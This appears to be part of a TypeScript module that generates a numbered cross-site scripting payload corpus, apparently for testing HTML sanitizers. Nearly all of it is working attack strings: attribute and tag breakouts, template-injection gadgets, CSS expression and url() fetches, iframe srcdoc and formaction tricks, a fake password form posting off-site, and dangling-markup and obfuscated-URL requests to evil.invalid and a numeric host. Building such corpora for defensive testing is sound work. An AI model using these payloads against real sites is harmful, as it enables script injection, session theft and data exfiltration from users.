const attributeBreakout: Template[] = [
  ({ js }) => `"><img src=x onerror=${js}>`,
  ({ js }) => `'><img src=x onerror=${js}>`,
  ({ js }) => `"><svg onload=${js}>`,
  ({ js }) => `'><svg/onload=${js}>`,
  ({ js }) => `" autofocus onfocus=${js} x="`,
  ({ js }) => `' autofocus onfocus=${js} x='`,
  ({ js }) => `" onmouseover=${js} "`,
  ({ js }) => `x" onerror=${js} src="x`,
  ({ js }) => `" style=animation-name:spin onanimationstart=${js} "`,
  ({ js }) => `></textarea><img src=x onerror=${js}>`,
  ({ js }) => `</textarea><script>${js}</script>`,
  ({ js }) => `</title><script>${js}</script>`,
  ({ js }) => `</style><script>${js}</script>`,
  ({ js }) => `</script><script>${js}</script>`,
  ({ js }) => `</noscript><img src=x onerror=${js}>`,
  ({ js }) => `</option></select><img src=x onerror=${js}>`,
  ({ js }) => `</a><img src=x onerror=${js}>`,
  ({ js }) => `</p></div></main><img src=x onerror=${js}>`,
  ({ js }) => `"-${js}-"`,
  ({ js }) => `'-${js}-'`,
  ({ js }) => `';${js};//`,
  ({ js }) => `\\";${js};//`,
  ({ js }) => `\`;${js};//\``,
  ({ js }) => `\${${js}}`,
  ({ js }) => `{{constructor.constructor('${js}')()}}`,
  ({ js }) => `{{$on.constructor('${js}')()}}`,
  ({ js }) => `<%= ${js} %>`,
  ({ js }) => `#{${js}}`,
  ({ js }) => `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${js}//'>`,
  ({ js }) => `"'><img src=x onerror=${js}><"'`,
  ({ js }) => `&quot;&gt;&lt;img src=x onerror=${js}&gt;`,
  ({ js }) => `%22%3E%3Cimg%20src%3Dx%20onerror%3D${js}%3E`,
  ({ js }) => `\u0022><img src=x onerror=${js}>`,
  ({ js }) => `"\u0000><img src=x onerror=${js}>`,
  ({ js }) => `" /><img src=x onerror=${js} /><x "`,
  ({ js }) => `x@y.test"><img src=x onerror=${js}>`,
  ({ js }) => `+91 98765 43210<script>${js}</script>`,
  ({ js }) => `Asha"><iframe src=javascript:${js}>`,
  ({ js }) => `Hello <b onclick=${js}>there</b>, which course?`,
  ({ js }) => `data-x="1" onfocus=${js} autofocus`,
  ({ js }) => `"}]};${js};//`,
  ({ js }) => `</script><img src=x onerror=${js}>"}`,
  ({ js }) => `\\"})]};${js}//`,
  ({ js }) => `\r\n\r\n<script>${js}</script>`,
  ({ js }) => `<!--"><script>${js}</script>-->`,
];

/* ---------------------------------------------------------------------------------------------- */
/* style: expressions, bindings and addresses that fetch */

const css: Template[] = [
  ({ js }) => `<div style="background:url(javascript:${js})">x</div>`,
  ({ js }) => `<div style="background-image:url('javascript:${js}')">x</div>`,
  ({ js }) => `<div style="width:expression(${js})">x</div>`,
  ({ js }) => `<div style="width:expr/**/ession(${js})">x</div>`,
  ({ js }) => `<div style="width:\\65xpression(${js})">x</div>`,
  ({ js }) => `<p style="x:&#101;xpression(${js})">x</p>`,
  ({ js }) => `<div style="-moz-binding:url(data:text/xml,<x onload=${js}>)">x</div>`,
  ({ url }) => `<div style="behavior:url(${url})">x</div>`,
  ({ url }) => `<div style="background:url(${url})">x</div>`,
  ({ url }) => `<p style="background-image:url( '${url}' )">x</p>`,
  ({ url }) => `<p style="list-style-image:url(${url})"><li>x</li></p>`,
  ({ url }) => `<p style="cursor:url(${url}),auto">x</p>`,
  ({ url }) => `<p style="border-image:url(${url}) 30">x</p>`,
  ({ url }) => `<p style="background:u\\rl(${url})">x</p>`,
  ({ url }) => `<p style="background:\\75\\72\\6c(${url})">x</p>`,
  ({ url }) => `<style>@import '${url}';</style>`,
  ({ url }) => `<style>@import url(${url});</style>`,
  ({ url }) => `<style>body{background:url(${url})}</style>`,
  ({ url }) => `<style>@font-face{font-family:x;src:url(${url})}body{font-family:x}</style>`,
  ({ url }) => `<style>input[value^=a]{background:url(${url}?a)}</style>`,
  ({ url }) => `<style>*{mask-image:image-set(url(${url}) 1x)}</style>`,
  ({ js }) => `<style>*{x:expression(${js})}</style>`,
  ({ js }) => `<style>@keyframes spin{}</style><p style="animation:spin 1ms" onanimationend=${js}>x</p>`,
  ({ url }) => `<svg><style>@import url(${url})</style></svg>`,
  ({ url }) => `<svg><rect fill="url(${url}#g)" width=9 height=9 /></svg>`,
  ({ url }) => `<svg><rect style="fill:url(${url}#g)" width=9 height=9 /></svg>`,
  ({ url }) => `<svg><style>rect{fill:url(${url}#g)}</style><rect width=9 height=9 /></svg>`,
  ({ url }) => `<table background="${url}"><tr><td>x</td></tr></table>`,
  ({ url }) => `<body background="${url}">`,
  ({ js }) => `<img style="x:expression(${js})" src=x>`,
  ({ url }) => `<link rel=stylesheet href=${url}>`,
  ({ url }) => `<style>\n</style><style>@import "${url}"</style>`,
];

/* ---------------------------------------------------------------------------------------------- */
/* frames, objects and forms: srcdoc, formaction and friends */

const framesForms: Template[] = [
  ({ js }) => `<iframe srcdoc="<script>${js}</script>"></iframe>`,
  ({ js }) => `<iframe srcdoc="&lt;img src=x onerror=${js}&gt;"></iframe>`,
  ({ js }) => `<iframe srcdoc='<svg onload=${js}>'></iframe>`,
  ({ js }) => `<iframe srcdoc="&#60;script&#62;${js}&#60;/script&#62;"></iframe>`,
  ({ js }) => `<iframe src="javascript:${js}"></iframe>`,
  ({ js }) => `<iframe src="data:text/html,<script>parent.${js}</script>"></iframe>`,
  ({ url }) => `<iframe src="${url}"></iframe>`,
  ({ js }) => `<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>parent.${js}</script>"></iframe>`,
  ({ js }) => `<frameset><frame src="javascript:${js}"></frameset>`,
  ({ js }) => `<object data="javascript:${js}"></object>`,
  ({ js }) => `<object data="data:text/html;base64,${base64(`<script>${js}</script>`)}"></object>`,
  ({ url }) => `<object data="${url}" type="text/html"></object>`,
  ({ js }) => `<object type="image/svg+xml" data="data:image/svg+xml,<svg onload=${js} xmlns=http://www.w3.org/2000/svg>"></object>`,
  ({ js }) => `<embed src="javascript:${js}">`,
  ({ js }) => `<embed src="data:image/svg+xml,<svg onload=${js} xmlns=http://www.w3.org/2000/svg>" type="image/svg+xml">`,
  ({ url }) => `<embed src="${url}">`,
  ({ js }) => `<applet code="javascript:${js}"></applet>`,
  ({ js }) => `<form><button formaction="javascript:${js}">Send</button></form>`,
  ({ js }) => `<form><input type=submit formaction=javascript:${js} value=Go></form>`,
  ({ js }) => `<form><input type=image formaction=javascript:${js} src=x></form>`,
  ({ js }) => `<button form=f formaction=javascript:${js}>x</button><form id=f></form>`,
  ({ js }) => `<form action="javascript:${js}"><input type=submit></form>`,
  ({ url }) => `<form action="${url}" method=post><input name=password><button>Sign in</button></form>`,
  ({ js }) => `<form><input autofocus onfocus=form.submit() formaction=javascript:${js}></form>`,
  ({ js }) => `<isindex action=javascript:${js} type=image>`,
  ({ js }) => `<input type=hidden accesskey=x onclick=${js}>`,
  ({ js }) => `<details open ontoggle=${js}><summary>x</summary></details>`,
  ({ js }) => `<dialog open onclose=${js}><form method=dialog><button autofocus>x</button></form></dialog>`,
  ({ js }) => `<portal src="javascript:${js}"></portal>`,
  ({ js }) => `<fencedframe src="javascript:${js}"></fencedframe>`,
  ({ js }) => `<video poster="javascript:${js}"></video>`,
  ({ js }) => `<video><source onerror=${js}></video>`,
  ({ js }) => `<a href="https://x.test" target="_blank" ping="javascript:${js}">x</a>`,
  ({ js }) => `<a href=javascript:${js} download>x</a>`,
];

/* ---------------------------------------------------------------------------------------------- */
/* requests to elsewhere without script: tracking pixels, dangling markup, stolen forms */

const exfiltration: Template[] = [
  ({ url }) => `<img src="${url}">`,
  ({ url }) => `<img src=${url}>`,
  ({ url }) => `<img srcset="${url} 1x, ${url} 2x">`,
  ({ url }) => `<img src="/x.png" srcset="${url} 400w" sizes="400px">`,
  ({ url }) => `<picture><source srcset="${url}"><img src=/x.png></picture>`,
  ({ url }) => `<video src="${url}"></video>`,
  ({ url }) => `<audio src="${url}" autoplay></audio>`,
  ({ url }) => `<video poster="${url}"></video>`,
  ({ url }) => `<video><track src="${url}" default></video>`,
  ({ url }) => `<input type=image src="${url}">`,
  ({ url }) => `<img src='${url}?`,
  ({ url }) => `<img src="${url}?leak=`,
  ({ url }) => `<a href="${url}" ping="${url}">x</a>`,
  ({ url }) => `<base href="${url}/"><img src=x>`,
  ({ url }) => `<base target='<img src="${url}?`,
  ({ url }) => `<meta http-equiv="refresh" content="0;url=${url}">`,
  ({ url }) => `<link rel=prefetch href="${url}">`,
  ({ url }) => `<table><td background="${url}">x</td></table>`,
  ({ url }) => `<img src="x" longdesc="${url}" lowsrc="${url}" dynsrc="${url}">`,
  ({ url }) => `<img src="http:${url.replace(/^https?:/, "")}">`,
  ({ n }) => `<img src="https:evil.invalid/${n}">`,
  ({ n }) => `<img src="//evil.invalid\\@127.0.0.1/${n}">`,
  ({ n }) => `<img src="https://127.0.0.1@evil.invalid/${n}">`,
  ({ n }) => `<img src="https://evil.invalid%2f@127.0.0.1/${n}">`,
  ({ n }) => `<img src="https://3325256711/${n}">`,
  ({ n }) => `<img src="https://0xC6.0x33.0x64.7/${n}">`,
  ({ n }) => `<img src="https://[::ffff:198.51.100.7]/${n}">`,
  ({ n }) => `<img src="/\\\\evil.invalid/${n}">`,
  ({ n }) => `<img src="\\/evil.invalid/${n}">`,
  ({ n }) => `<img src=" //evil.invalid/${n}">`,
  ({ n }) => `<a href="//evil.invalid/${n}"><img src="//evil.invalid/${n}"></a>`,
  ({ n }) => `<img src="https://evil.invalid/${n}" width=1 height=1 alt="">`,
  ({ n }) => `<img src="http://198.51.100.7:8080/${n}.gif">`,
  ({ n }) => `<img src="HTTPS://EVIL.INVALID/${n}">`,
];

const templates: Record<XssFamily, Template[]> = {
  script,
  "event-handler": eventHandler,
  "url-scheme": urlScheme,
  "svg-mathml": svgMathml,
  encoding,
  mutation,
  "json-ld": jsonLd,
  "head-markup": headMarkup,
  "attribute-breakout": attributeBreakout,
  css,
  "frames-forms": framesForms,
  exfiltration,
};

/** The whole corpus, numbered from 1 in family order (the number is the payload's marker). */
export const xssCorpus: readonly XssPayload[] = (() => {
  const payloads: XssPayload[] = [];
  for (const family of xssFamilies) {
    for (const template of templates[family]) {
      const n = payloads.length + 1;
      const text = template({ js: JS_MARKERS[n % JS_MARKERS.length]!(n), n, url: OFF_SITE[n % OFF_SITE.length]!(n) });
      payloads.push({ id: n, family, text });
    }
  }
  return payloads;
})();

/** How many payloads each family has. */
export function corpusSizes(): Record<XssFamily, number> {
  const sizes = Object.fromEntries(xssFamilies.map((family) => [family, 0])) as Record<XssFamily, number>;
  for (const payload of xssCorpus) sizes[payload.family] += 1;
  return sizes;
}
